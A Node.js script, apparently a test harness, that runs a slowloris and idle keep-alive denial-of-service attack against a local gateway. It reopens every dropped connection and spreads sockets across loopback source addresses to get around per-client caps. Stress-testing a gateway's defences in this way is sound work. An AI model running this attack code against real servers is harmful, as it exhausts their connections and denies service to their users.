#!/usr/bin/env node
// An attacker that holds connections open against a gateway and reopens each one the gateway
// closes, the way a real one keeps up the pressure. Run as its own process so that it keeps
// trickling and reconnecting while the measuring side blocks.
//
//   node hold-connections.mjs --port P [--slow 2000] [--idle 2000] [--per-address 1000]
//
// slow: sends a request line and one header, then one more header line every 2 s, never the
//       blank line that ends the head (slowloris).
// idle: sends one complete GET /healthz, reads the answer, then sends nothing (an idle
//       keep-alive connection).
// Connections come from 127.0.0.2, 127.0.0.3, … with at most `per-address` from each, so a
// per-client cap on the gateway does not turn the attack into a reconnect loop.
// Prints "ready" once every connection has been opened once, then a JSON status line on stdin
// input or SIGUSR2, and on SIGTERM a final one before exiting.
import net from 'node:net';
import { parseArgs } from 'node:util';

const { values } = parseArgs({ options: {
  port: { type: 'string' }, slow: { type: 'string', default: '2000' }, idle: { type: 'string', default: '2000' },
  'per-address': { type: 'string', default: '1000' }, host: { type: 'string', default: '127.0.0.1' } } });
const port = Number(values.port);
const perAddress = Number(values['per-address']);
const counts = { slow: Number(values.slow), idle: Number(values.idle) };

const stats = { opened: 0, reopened: 0, refused: 0, timedOut: 0, answered: 0, errors: 0 };
const live = { slow: new Set(), idle: new Set() };
let stopping = false;
let nextAddress = 2;

function addresses(count) {
  const list = [];
  for (let i = 0; i < Math.ceil(count / perAddress); ++i) list.push(`127.0.0.${nextAddress++}`);
  return list;
}
const sources = { slow: addresses(counts.slow), idle: addresses(counts.idle) };

function open(kind, index) {
  if (stopping) return;
  const socket = net.connect({ host: values.host, port, localAddress: sources[kind][Math.floor(index / perAddress)] });
  live[kind].add(socket);
  socket.setNoDelay(true);
  socket.on('connect', () => {
    stats.opened++;
    socket.write(kind === 'slow' ? 'POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n' : 'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
  });
  socket.on('data', (data) => {
    const text = data.toString('latin1');
    if (/^HTTP\/1\.1 (429|503)/.test(text)) stats.refused++;
    else if (/^HTTP\/1\.1 408/.test(text)) stats.timedOut++;
    else if (/^HTTP\/1\.1 /.test(text)) stats.answered++;
  });
  socket.on('error', () => { stats.errors++; });
  socket.on('close', () => {
    live[kind].delete(socket);
    if (stopping) return;
    stats.reopened++;
    setTimeout(() => open(kind, index), 10);
  });
}

function status() {
  const held = (kind) => [...live[kind]].filter((s) => s.readyState === 'open').length;
  return JSON.stringify({ slow_held: held('slow'), idle_held: held('idle'), ...stats });
}

const trickle = setInterval(() => {
  for (const socket of live.slow) if (socket.readyState === 'open') socket.write('X-Slow: 1\r\n');
}, 2000);

for (const kind of ['slow', 'idle']) for (let i = 0; i < counts[kind]; ++i) open(kind, i);
const readyCheck = setInterval(() => {
  if (stats.opened >= counts.slow + counts.idle) {
    clearInterval(readyCheck);
    console.log('ready');
  }
}, 50);

process.stdin.on('data', () => console.log(status()));
process.on('SIGUSR2', () => console.log(status()));
process.on('SIGTERM', () => {
  stopping = true;
  clearInterval(trickle);
  console.log(status());
  for (const kind of ['slow', 'idle']) for (const socket of live[kind]) socket.destroy();
  process.exit(0);
});
